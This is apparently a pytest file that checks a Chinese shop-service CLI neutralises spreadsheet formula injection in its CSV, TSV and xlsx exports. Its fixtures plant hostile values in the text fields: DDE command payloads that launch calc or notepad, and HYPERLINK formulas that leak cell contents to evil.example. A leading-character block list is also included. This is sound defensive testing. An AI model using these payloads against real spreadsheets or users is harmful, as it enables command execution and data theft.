"""Text someone else typed never becomes a formula: no formula in any xlsx we write, no
dangerous leading character in any CSV/TSV cell, across every export command."""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from datetime import datetime

import click
import pytest
from conftest import FIXTURES

from cstool.cli import cli

sys.path.insert(0, str(FIXTURES))
from exportlib import CLASSIC_HEADER, classic_row, csv_line  # noqa: E402

OID = "5118609024991039100"
NICK = '=HYPERLINK("http://evil.example/?"&C3,"点我查看")'
HOSTILE = {
    "memo": "=1+1",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+cmd|' /C notepad'!A0",
    "sku": "-2+3",
    "problem": '=HYPERLINK("http://evil.example/","看")',
    "todo": "+1+2",
    "receipt": "@A1",
    "detail": "=2*3",
    "note": "\t=1",
    "promise": "-1+1明天付",
    "template": "=cmd()",
    "shop": "=shop()",
}
DANGER = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile(run, demo, tmp_path):
    """The demo shop with formulas typed into every free-text field there is."""
    f = tmp_path / "evil.csv"
    rows = [classic_row(order_id=OID, buyer=NICK, status="paid",
                        created=datetime(2026, 11, 22, 20, 0), paid=datetime(2026, 11, 22, 20, 5),
                        memo=HOSTILE["memo"], message=HOSTILE["message"], title=HOSTILE["title"],
                        sku=HOSTILE["sku"]),
            classic_row(order_id="5118609024991039101", buyer="=tb_unpaid", status="unpaid",
                        created=datetime(2026, 11, 23, 13, 0), title=HOSTILE["title"])]
    f.write_bytes((csv_line(list(CLASSIC_HEADER)) + "".join(csv_line(r) for r in rows))
                  .encode("gb18030"))
    a = ["--agent", "倩"]
    run([*a, "orders", "import", str(f)], check=0)
    run(["agent", "add", "=evil", "--name", "=HYPERLINK(1)", "--job-no", "+1"], check=0)
    run(["policy", "set", "shop_name", HOSTILE["shop"]], check=0)
    run([*a, "chase", "template", "set", "sms", HOSTILE["template"]], check=0)
    run([*a, "chase", "log", "5118609024991039101", "--channel", "旺旺", "--promise",
         HOSTILE["promise"], "--note", HOSTILE["note"]], check=0)
    run([*a, "--now", "2026-11-22 22:00", "handover", "add", "-c", "联系快递", "--order", OID,
         "-p", HOSTILE["problem"], "-t", HOSTILE["todo"]], check=0)
    run([*a, "--now", "2026-11-22 22:05", "handover", "add", "-c", "回访", "--buyer", NICK,
         "-p", HOSTILE["problem"]], check=0)
    run([*a, "handover", "ack", "2", "--receipt", HOSTILE["receipt"]], check=0)
    run([*a, "exception", "log", OID, "--kind", "破损", "--detail", HOSTILE["detail"]], check=0)
    run([*a, "exception", "update", "1", "--note", HOSTILE["note"]], check=0)
    run([*a, "remark", "add", OID, "--kind", "note", "--reason", "=x()", "--action", "+y"],
        check=0)
    return demo


# Every command with a csv/tsv format, with the arguments that make it list something.
LISTINGS = {
    "agent list": ["agent", "list"],
    "chase due": ["chase", "due", "--all", "--limit", "0"],
    "chase stats": ["chase", "stats", "--by", "agent"],
    "chase template list": ["chase", "template", "list"],
    "exception list": ["exception", "list"],
    "exception playbook": ["exception", "playbook"],
    "exception report": ["exception", "report", "--by", "agent"],
    "exception show": ["exception", "show", "1"],
    "handover list": ["handover", "list"],
    "handover shifts": ["handover", "shifts"],
    "handover show": ["handover", "show", "1"],
    "journal backup": ["journal", "backup", "{tmp}/b.db"],
    "journal status": ["journal", "status"],
    "orders list": ["orders", "list", "--limit", "0"],
    "orders show": ["orders", "show", OID],
    "policy presets": ["policy", "presets"],
    "policy show": ["policy", "show"],
    "remark lint": ["remark", "lint", "--limit", "0"],
    "remark list": ["remark", "list", OID],
    "remark parse": ["remark", "parse", "=HYPERLINK(1) 2026.11.23 倩"],
    "shipcheck": ["shipcheck", "--limit", "0"],
    "shipcheck pack": ["shipcheck", "pack", OID],
}


def delimited_commands() -> set[str]:
    ctx = click.Context(cli)
    out, todo = set(), [((n,), cli.get_command(ctx, n)) for n in cli.list_commands(ctx)]
    while todo:
        path, cmd = todo.pop()
        if isinstance(cmd, click.Group):
            todo += [(path + (n,), cmd.get_command(ctx, n)) for n in cmd.list_commands(ctx)]
        if any(isinstance(p.type, click.Choice) and "tsv" in p.type.choices for p in cmd.params):
            out.add(" ".join(path))
    return out


def test_the_table_covers_every_csv_command():
    assert delimited_commands() == set(LISTINGS)


def assert_no_formula(text: str, delimiter: str, allow_order_formula: bool = False) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    for c in cells:
        if allow_order_formula and re.fullmatch(r'="[0-9A-Za-z_\-]+"', c):
            continue  # the seller centre's way of keeping an order number text
        assert not c.startswith(DANGER) or NUMBER.fullmatch(c), c
    return cells


@pytest.mark.parametrize("name", sorted(LISTINGS))
@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_no_cell_of_any_listing_starts_a_formula(run, hostile, tmp_path, name, fmt, delimiter):
    argv = [a.replace("{tmp}/b.db", str(tmp_path / f"b-{fmt}.db")) for a in LISTINGS[name]]
    result = run(["--agent", "倩", *argv, "--format", fmt])
    # remark lint exits 1: it finds the hostile remarks incomplete
    assert result.exit_code == (1 if name == "remark lint" else 0), result.output
    cells = assert_no_formula(result.stdout, delimiter)
    assert cells


def test_the_hostile_texts_are_there_neutralised(run, hostile):
    out = run(["orders", "list", "--format", "csv", "--limit", "0"], check=0).stdout
    assert ["'" + NICK] == [c for row in csv.reader(io.StringIO(out)) for c in row if NICK in c]
    shown = run(["orders", "show", OID, "--format", "csv"], check=0).stdout
    for key in ("memo", "message", "title", "sku"):
        assert "'" + HOSTILE[key] in shown, key


def test_negative_numbers_stay_numbers(run, demo):
    rows = list(csv.DictReader(io.StringIO(run(["shipcheck", "--format", "csv"], check=0).stdout)))
    late = [r for r in rows if r["check"] == "overdue"]
    assert late and all(NUMBER.fullmatch(r["hours_left"]) and r["hours_left"].startswith("-")
                        for r in late)


def test_the_handover_csv_has_no_formula_but_the_order_numbers(run, hostile):
    out = run(["--agent", "倩", "handover", "export", "--format", "csv"], check=0).stdout
    cells = assert_no_formula(out, ",", allow_order_formula=True)
    assert "'" + HOSTILE["problem"] in cells and "'" + NICK in cells
    assert f'="{OID}"' in cells


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_handover_xlsx_holds_text_never_formulas(run, hostile, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "sheet.xlsx"
    run(["--agent", "倩", "handover", "export", "--shift", "night", "--date", "2026-11-22",
         "-o", path], check=0)
    assert "<f>" not in sheet_xml(path) and "<f " not in sheet_xml(path)
    ws = load_workbook(path).active
    values = {}
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value is not None:
                values[cell.value] = cell.data_type
    for text in (NICK, HOSTILE["problem"], HOSTILE["todo"], HOSTILE["receipt"]):
        assert values.get(text) == "s", text
    assert str(ws["A1"].value).startswith(HOSTILE["shop"]) and ws["A1"].data_type == "s"


def test_a_receipt_read_back_stays_text_in_the_next_sheet(run, hostile, tmp_path):
    from openpyxl import load_workbook

    sheet = tmp_path / "filled.csv"
    night = ["--shift", "night", "--date", "2026-11-22"]
    out = run(["--agent", "倩", "handover", "export", *night, "--format", "csv"], check=0).stdout
    rows = list(csv.reader(io.StringIO(out)))
    head = rows[0]
    item = next(r for r in rows[1:] if r[head.index("回执")] == "" and r[head.index("来源")] == "本班")
    item[head.index("回执")] = '=HYPERLINK("http://evil.example/?"&A1,"已处理")'
    with open(sheet, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([head, item])
    got = run.json(["--agent", "郑婷", "handover", "import", str(sheet), "--json"])
    assert got["recorded"] == 1
    path = tmp_path / "next.xlsx"
    run(["--agent", "倩", "handover", "export", *night, "-o", path], check=0)
    assert "<f>" not in sheet_xml(path)
    texts = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
    assert '=HYPERLINK("http://evil.example/?"&A1,"已处理")' in texts


def test_control_characters_typed_into_a_problem_do_not_break_the_sheet(run, demo, tmp_path):
    from openpyxl import load_workbook

    run(["--agent", "倩", "handover", "add", "-c", "回访", "--buyer", "tb1", "-p",
         "回电\x08\x1b给买家"], check=0)
    path = tmp_path / "sheet.xlsx"
    run(["--agent", "倩", "handover", "export", "-o", path], check=0)
    texts = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
    assert "回电给买家" in texts
